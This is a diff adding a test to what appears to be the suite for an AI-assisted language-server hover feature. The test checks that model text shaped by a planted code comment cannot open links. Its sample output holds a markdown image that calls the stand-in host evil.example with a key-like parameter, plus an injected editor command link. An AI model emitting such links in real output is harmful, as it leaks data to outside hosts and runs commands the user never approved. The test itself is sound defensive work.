@@ -120,6 +120,17 @@ def test_links_ask_anew_ask_the_better_model_and_forget(asker: Asker) -> None:
     assert [asker.command("clearCache", where)["result"]["forgotten"] for _ in range(2)] == [1, 0]
 
 
+def test_what_a_model_was_told_to_write_does_nothing(asker: Asker) -> None:
+    """A comment in the code may dictate the words: no picture leads out, and the only commands are our own links below."""
+    words = "It adds.\n\n![x](https://evil.example/?k=1) [Read on](command:hybrid-lsp.do?%5B%5D)"
+    asker.begin({"small": [{"say": [words]}]})
+    explained, _, links = asker.hover()["contents"]["value"].partition("\n---\n")
+    assert explained.startswith("It adds.\n\n! [x]")
+    assert "](command:" not in explained
+    assert links.count("](command:hybrid-lsp.") == 3
+    assert "](command:" not in asker.command("do", asker.do("explain"))["result"]["markdown"]
+
+
 def test_what_is_forgotten_is_asked_anew(asker: Asker) -> None:
     """Not the same words from memory again; and once, not at every look."""
     asker.begin({"small": [{"say": ["It adds."]}, {"say": ["It sums up."]}]})
